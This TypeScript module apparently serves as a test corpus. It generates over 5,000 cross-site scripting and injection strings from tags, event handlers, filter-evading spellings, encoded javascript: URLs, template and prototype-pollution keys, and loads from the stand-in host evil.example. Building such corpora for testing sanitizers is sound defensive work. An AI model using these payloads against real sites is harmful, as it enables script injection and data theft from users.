/** Texts that would run a script if a page treated them as HTML, as a URL or as code. Each calls `alert(1)`. */

const call = 'alert(1)';

/** Ways out of the place where a page might put a text. */
const exits = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</textarea>',
  '-->',
  '</script>',
  '</style>',
  ']]>',
  '\\"',
  '}}',
];

const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'x tabindex=1 autofocus',
  'math',
  'link rel=stylesheet href=x',
  'button autofocus popovertarget=x',
  'form id=x',
];

const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onbegin',
  'onanimationstart',
  'onpointerenter',
  'oncontentvisibilityautostatechange',
];

/** Ways to write a handler so that simple filters miss it. */
const spellings: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} ${event}=${call}>`,
  (tag, event) => `<${tag} ${event}="${call}">`,
  (tag, event) => `<${tag}/${event}='${call}'>`,
  (tag, event) => `<${tag.toUpperCase()} ${event.toUpperCase()}=${call}//`,
  (tag, event) => `<${tag}\n${event}\t=\r${call} >`,
  (tag, event) => `<${tag} ${event}=&#97;lert(1)>`,
  (tag, event) => `<${tag} ${event}=window['al'+'ert'](1)>`,
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'vbscript:',
];
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace('j', '&#106;').replace('J', '&#x4a;'),
  (text) => encodeURIComponent(text),
  (text) => text.replace(':', '&colon;'),
  (text) => text.replaceAll('a', '\\u0061'),
];
const bodies = [call, `//%0a${call}`, `void(${call})`, `'<script>${call}</script>'`, `${call}//https://example.com`];
const carriers: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}">`,
  (url) => `<form action="${url}"><button autofocus>x`,
  (url) => `<svg><a xlink:href="${url}"><text>x`,
  (url) => `[x](${url})`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
  (url) => `/photos/../${url}`,
  (url) => `/photos/01ARZ3NDEKTSV4RRFFQ69G5FAV/01ARZ3NDEKTSV4RRFFQ69G5FAV.webp?${url}`,
];

/** Whole texts: scripts, templates, style, parsers that change what they read, and addresses. */
const wholes: readonly string[] = [
  `<script>${call}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script/x>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<template><img src=x onerror=${call}></template>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img srcset="https://evil.example/pixel.gif 1x">`,
  `<input type=image src=https://evil.example/x>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `";${call};"`,
  `';${call};'`,
  `\u2028${call}\u2029`,
  `__proto__`,
  `constructor`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `https://evil.example/`,
  `//evil.example/`,
  `www.evil.example`,
  `mailto:a@evil.example`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:https://evil.example/x`,
  `url(javascript:${call})`,
  `expression(${call})`,
  `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  `\u202E<script>${call}</script>`,
];

function combine(): string[] {
  const texts = new Set<string>();
  for (const [at, tag] of tags.entries()) {
    for (const event of events) {
      for (const [spelling, spell] of spellings.entries()) {
        // Every way out is tried with every tag, and with every event, but not with every combination of both.
        for (let turn = 0; turn < 3; turn += 1) {
          const exit = exits[(at + spelling * 3 + turn * 5) % exits.length] ?? '';
          texts.add(exit + spell(tag, event));
        }
      }
    }
  }
  for (const scheme of schemes)
    for (const encode of encodings)
      for (const body of bodies) for (const carry of carriers) texts.add(carry(encode(scheme + body)));
  for (const whole of wholes) for (const exit of exits) texts.add(exit + whole);
  return [...texts];
}

/** More than 5,000 hostile texts of different families, always the same ones. */
export const hostileTexts: readonly string[] = combine();
